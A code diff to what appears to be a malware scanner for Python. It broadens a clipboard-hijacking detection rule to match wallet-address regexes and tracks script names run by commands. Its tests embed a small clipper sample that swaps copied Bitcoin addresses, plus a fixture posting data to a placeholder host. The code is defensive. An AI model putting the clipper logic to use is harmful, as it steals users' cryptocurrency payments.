@@ -2510,6 +2510,9 @@ impl<'t> Py<'t> {
                 facts.run_script.push((fid, line, scope, snippet(snip)));
             }
             facts.run_program.push((fid, line, scope, snippet(snip)));
+            for script in patterns::script_names(&cmd) {
+                facts.run_files.push((script, line, scope, snippet(snip)));
+            }
             if let Some(c) = cmd_node {
                 let (first, whole) = match kind(c) {
                     "list" | "tuple" => (c.named_child(0), true),
@@ -2791,11 +2794,13 @@ impl<'t> Py<'t> {
                     .and_then(|a| self.static_str(*a))
                     .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty())
             };
+            // The clipboard read in a file with an address, or a pattern for addresses.
             let swaps = || {
                 (memfind(src, b"paste(")
                     || memfind(src, b"GetClipboardData")
                     || memfind(src, b"clipboard_get("))
-                    && !malgraph_ioc::extract(&src_str()).wallets.is_empty()
+                    && (!malgraph_ioc::extract(&src_str()).wallets.is_empty()
+                        || patterns::has_wallet_pattern(&src_str()))
             };
             let found = if swap {
                 // No benign reading: weighs like the file's top level.
@@ -4191,6 +4196,18 @@ requests.post('http://x.test/a', json={'k': c})
         assert!(fires(swap, "STEAL-CLIPPER"));
         let tidy = "import re\ndef fix(t):\n    return re.sub(r'\\s+', ' ', t)\n";
         assert!(!fires(tidy, "STEAL-CLIPPER"));
+        // Clipboard read, tested against an address pattern, replaced: a clipper whose
+        // addresses are placeholders or come from elsewhere.
+        let clip = |pattern: &str| {
+            format!(
+                "import re, pyperclip\nMINE = 'BTC WALLET HERE'\ndef clip():\n    s = pyperclip.paste()\n    if re.match(r'{pattern}', s):\n        pyperclip.copy(MINE)\n"
+            )
+        };
+        assert!(fires(
+            &clip("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"),
+            "STEAL-CLIPPER"
+        ));
+        assert!(!fires(&clip("^https?://"), "STEAL-CLIPPER"));
     }
 
     #[test]
